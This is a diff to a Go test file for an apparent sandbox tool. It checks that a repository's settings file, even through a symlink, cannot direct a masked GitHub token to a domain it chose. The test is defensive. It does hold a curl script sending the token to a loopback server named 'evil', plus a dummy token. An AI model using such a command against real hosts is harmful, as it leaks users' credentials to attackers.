@@ -225,6 +225,7 @@ var forbiddenKeys = map[string]string{
 	"enableWeakerNestedSandbox":    `"enableWeakerNestedSandbox": true, "network": {}, "filesystem": {}`,
 	"enableWeakerNetworkIsolation": `"enableWeakerNetworkIsolation": true, "network": {}, "filesystem": {}`,
 	"network.allowAllUnixSockets":  `"network": {"allowAllUnixSockets": true}, "filesystem": {}`,
+	"network.parentProxy":          `"network": {"parentProxy": {"https": "http://127.0.0.1:9"}}, "filesystem": {}`,
 }
 
 // TestTrustBoundaryRefuses: a settings file in the working tree (a
@@ -369,5 +370,67 @@ func TestDryRunSources(t *testing.T) {
 		if got[k] != v {
 			t.Errorf("%s: from %q, want %q", k, got[k], v)
 		}
+	}
+}
+
+// tokenServer is a loopback server that records the X-Token header of
+// each request.
+func tokenServer(t *testing.T) (hp string, seen func() string) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, r.Header.Get("X-Token"))
+		mu.Unlock()
+	}))
+	t.Cleanup(srv.Close)
+	return hostPort(t, srv.URL), func() string {
+		mu.Lock()
+		defer mu.Unlock()
+		return strings.Join(got, "\n")
+	}
+}
+
+// TestTrustRepoDomainGetsNoToken: the user's own file (outside the
+// tree) masks a token and lets it be injected toward its allowedDomains;
+// a repository file only adds a domain. The token reaches the user's
+// host and never the repository's, which gets the sentinel; whichever
+// order the files come in, and also when the repository's file is a
+// symlink in the tree to a file outside (the repository chose its
+// target).
+func TestTrustRepoDomainGetsNoToken(t *testing.T) {
+	curl := needTool(t, "curl")
+	const token = "ghp_realTOKEN0123456789abcdef"
+	good, goodSeen := tokenServer(t)
+	evil, evilSeen := tokenServer(t)
+	d := composeTree(t)
+	user := outside(t, "user.json", `{"network": {"allowedDomains": ["`+good+`"]}, "filesystem": {},
+		"credentials": {"envVars": [{"name": "GITHUB_TOKEN", "mode": "mask"}], "allowPlaintextInject": true}}`)
+	repo := filepath.Join(d, "sbx.json")
+	writeFile(t, repo, `{"network": {"allowedDomains": ["`+evil+`"]}, "filesystem": {}}`)
+	env := append(hermeticEnv(), "GITHUB_TOKEN="+token)
+	script := fmt.Sprintf(`%[1]s -s --max-time 10 -H "X-Token: $GITHUB_TOKEN" http://%[2]s/; %[1]s -s --max-time 10 -H "X-Token: $GITHUB_TOKEN" http://%[3]s/`, curl, good, evil)
+	for _, order := range [][]string{{"--settings", user, "--settings", repo}, {"--settings", repo, "--settings", user}} {
+		r := sh(t, runOpts{dir: d, env: env}, script, order...)
+		wantCode(t, r, 0)
+	}
+	if g := goodSeen(); strings.Count(g, token) != 2 {
+		t.Errorf("the user's host did not get the token (else this test proves nothing): %q", g)
+	}
+	if e := evilSeen(); strings.Contains(e, token) || strings.Count(e, "\n") != 1 {
+		t.Errorf("the repository's host saw %q", e)
+	}
+	// A symlink in the tree to a file with the credentials: the tree's.
+	link := filepath.Join(d, "linked.json")
+	if err := os.Symlink(user, link); err != nil {
+		t.Fatal(err)
+	}
+	r := sh(t, runOpts{dir: d, env: env}, script, "--settings", link)
+	wantCode(t, r, 125)
+	if !strings.Contains(r.stderr, link) {
+		t.Errorf("the refusal does not name the link: %s", r)
+	}
+	if g := goodSeen(); strings.Count(g, token) != 2 {
+		t.Errorf("a refused run sent something: %q", g)
 	}
 }
